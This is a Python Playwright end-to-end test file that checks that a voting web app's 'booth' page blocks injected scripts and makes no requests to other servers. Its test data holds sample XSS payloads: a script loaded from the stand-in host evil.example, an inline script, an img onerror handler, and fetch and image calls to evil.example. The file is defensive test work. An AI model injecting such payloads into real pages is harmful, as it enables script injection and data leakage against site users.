# SPDX-License-Identifier: AGPL-3.0-or-later
"""What somebody might slip into the booth does not run, and a visit asks no other server."""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Route

from tests.e2e.browser.parent import Parent
from tests.site import Site

SLIPPED_IN = {
    "a script of another server": """() => {
        const script = document.createElement("script");
        script.src = "https://evil.example/x.js";
        document.head.append(script);
    }""",
    "a script of this server": """() => {
        const script = document.createElement("script");
        script.src = "/assets/x.js";
        document.head.append(script);
    }""",
    "a script in the page": """() => {
        const script = document.createElement("script");
        script.textContent = "window.ran = true";
        document.head.append(script);
    }""",
    "markup that acts": """() => {
        document.body.innerHTML = "<img src=x onerror='window.ran = true'>";
    }""",
    "a request to another server": "() => fetch('https://evil.example/')",
    "a picture of another server": """async () => {
        const image = new Image();
        image.src = "https://evil.example/x.png";
        await image.decode();
    }""",
}


@pytest.mark.parametrize("what", SLIPPED_IN)
def test_what_is_slipped_into_the_booth_does_not_run(
    chromium: Browser, site: Site, what: str
) -> None:
    context = chromium.new_context(locale="fr-FR")
    page, asked = context.new_page(), list[str]()

    def note(route: Route) -> None:
        asked.append(route.request.url)
        route.abort()

    context.route("https://**", note)
    Parent(page, site, 0).open_letter()
    tried = (
        f"async () => {{ try {{ await ({SLIPPED_IN[what]})(); }} catch (e) {{ return e.name; }} }}"
    )
    assert page.evaluate(tried) in ("TypeError", "EncodingError")
    assert page.evaluate("window.ran") is None
    assert asked == []
    context.close()


def test_a_whole_vote_asks_no_other_server(chromium: Browser, site: Site) -> None:
    context = chromium.new_context(locale="fr-FR", viewport={"width": 360, "height": 740})
    hosts: set[str] = set()
    context.on("request", lambda request: hosts.add(urlsplit(request.url).netloc))
    Parent(context.new_page(), site, 0).vote()
    context.close()
    assert hosts - {""} == {urlsplit(site.url).netloc}
